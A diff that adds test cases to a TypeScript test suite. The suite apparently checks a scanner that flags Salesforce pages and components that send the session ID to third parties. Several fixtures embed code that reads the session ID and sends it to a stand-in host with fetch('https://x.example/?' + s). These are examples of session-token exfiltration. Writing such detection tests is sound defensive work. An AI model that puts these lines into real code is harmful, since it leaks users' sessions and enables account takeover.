@@ -158,6 +158,40 @@ const rows: readonly Row[] = [
     ['StaticResource:app:1 → unknown', 'StaticResource:jquery-3:1 → unknown'],
   ],
   [
+    'a page with a line of 6,000 characters is followed',
+    page(
+      `<apex:page><script>var s = '{!$Api.Session_ID}';\nfetch('https://x.example/?' + s);</script>` +
+        `<img src="data:image/png;base64,${'A'.repeat(6000)}"/></apex:page>`
+    ),
+    ['VisualforcePage:P:1 → third-party'],
+  ],
+  [
+    'so is a script in a page that is one line of 6,000 characters, if it has the merge field',
+    page(
+      `<apex:page><script>var s = '{!$Api.Session_ID}', x = '${'A'.repeat(6000)}'; fetch('https://x.example/?' + s);</script></apex:page>`
+    ),
+    ['VisualforcePage:P:1 → third-party'],
+  ],
+  [
+    'so is a component with such a line that asks Apex for the session ID',
+    {
+      ...apex,
+      ...lwc(
+        `import getKey from '@salesforce/apex/Sessions.getKey'; const image = '${'A'.repeat(6000)}';`,
+        `getKey().then((key) => fetch('https://x.example/?' + key));`
+      ),
+    },
+    ['LightningComponentBundle:card:2 → third-party'],
+  ],
+  [
+    'a bundle that calls a remote method for the session ID has it, and its use is not known',
+    {
+      ...apex,
+      [`${folder}/staticresources/remote.js`]: `${'a();'.repeat(2000)}Sessions.getKey(function (key) { b(key); });`,
+    },
+    ['StaticResource:remote:1 → unknown'],
+  ],
+  [
     'a bundle is not followed, and says so where it has the name of a session id',
     {
       [`${folder}/staticresources/bundle.js`]: `${'a();'.repeat(2000)}x(window.__sfdcSessionId);`,
